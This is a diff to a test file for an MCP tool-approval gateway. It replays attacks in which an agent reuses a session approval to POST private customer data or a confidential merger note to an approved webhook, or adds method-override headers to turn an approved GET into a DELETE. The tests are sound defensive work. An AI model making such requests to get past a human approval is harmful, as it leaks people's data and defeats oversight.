@@ -5,7 +5,7 @@ import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { describe, expect, it } from 'vitest';
 import { useChromium } from './support/chromium.js';
 import { clickWhenSettled } from './support/console-pointer.js';
-import { decide, pendingApproval } from './support/pending-approval.js';
+import { decide, decideIfAsked, pendingApproval } from './support/pending-approval.js';
 import { closeAfterEach, connectClient, serveGateway, type ServedGateway } from './support/serve-gateway.js';
 
 // The attacks that once got past the approver, replayed against `toolgate serve` with the MCP SDK client,
@@ -142,6 +142,33 @@ describe('attack: a remembered approval is wider than what was seen', () => {
   });
 });
 
+describe('attack: a session approval of a request with a body stands in for any body', () => {
+  it('approving a POST of a build note for the session does not send the workspace\'s private data in the next POST to the same URL unseen', async () => {
+    const gateway = await serve({ policy: { allowedDomains: ['hooks.example.com'] } });
+    const mcp = await client(gateway);
+    const url = 'https://hooks.example.com/services/build';
+    const note = mcp.callTool({ name: 'http_request', arguments: { method: 'POST', url, body: 'build 41 finished' } });
+    await decide(gateway, (await pendingApproval(gateway, 'http_request')).id, 'session');
+    await note;
+    for (const args of [
+      // What leaves is the workspace's private data, in no shape a redaction pattern knows: nothing on the card is masked.
+      { method: 'POST', url, body: 'customers: alice@acme.example 4111-plan, bob@acme.example' },
+      { method: 'POST', url, body: 'build 41 finished', headers: { 'X-Note': 'merger with globex closes 2027-07-01' } },
+      { method: 'PUT', url, body: 'build 41 finished' },
+    ]) {
+      const exfiltrate = mcp.callTool({ name: 'http_request', arguments: args });
+      const asked = await pendingApproval(gateway, 'http_request');
+      expect(asked.target?.http?.method).toBe(args.method);
+      await decide(gateway, asked.id, 'reject');
+      expect((await exfiltrate).isError).toBe(true);
+    }
+    // The identical request is the one remembered.
+    await mcp.callTool({ name: 'http_request', arguments: { method: 'POST', url, body: 'build 41 finished' } });
+    const receipts = (await gateway.api('/api/receipts?tool=http_request')).body as { approval: { how?: string } }[];
+    expect(receipts.filter((receipt) => receipt.approval.how === 'confirm:remembered')).toHaveLength(1);
+  });
+});
+
 describe('attack: a header turns the approved method into another', () => {
   it('approving GET /repos/me/prod for the session does not let a method-override header make it a DELETE: the override never leaves', async () => {
     const gateway = await serve({ policy: { allowedDomains: ['api.github.com'] } });
@@ -150,10 +177,12 @@ describe('attack: a header turns the approved method into another', () => {
     await decide(gateway, (await pendingApproval(gateway, 'http_request')).id, 'session');
     await read;
     // Frameworks that honour these act on the method they name, whatever the request line says.
+    // Another header is another request: the person is asked, and even an approval does not let the override leave.
     for (const name of ['X-HTTP-Method-Override', 'x-http-method', 'X-Method-Override']) {
-      const overridden = await mcp.callTool({ name: 'http_request', arguments: { method: 'GET', url: 'https://api.github.com/repos/me/prod', headers: { [name]: 'DELETE' } } });
-      expect(overridden.isError).toBe(true);
-      expect(JSON.stringify(overridden.content)).toContain('a request header is not allowed');
+      const overridden = await decideIfAsked(gateway, mcp, 'http_request', { method: 'GET', url: 'https://api.github.com/repos/me/prod', headers: { [name]: 'DELETE' } }, 'once');
+      expect(overridden.card, name).toBeDefined();
+      expect((overridden.result as { isError?: boolean }).isError).toBe(true);
+      expect(JSON.stringify((overridden.result as { content?: unknown }).content)).toContain('a request header is not allowed');
     }
   });
 });
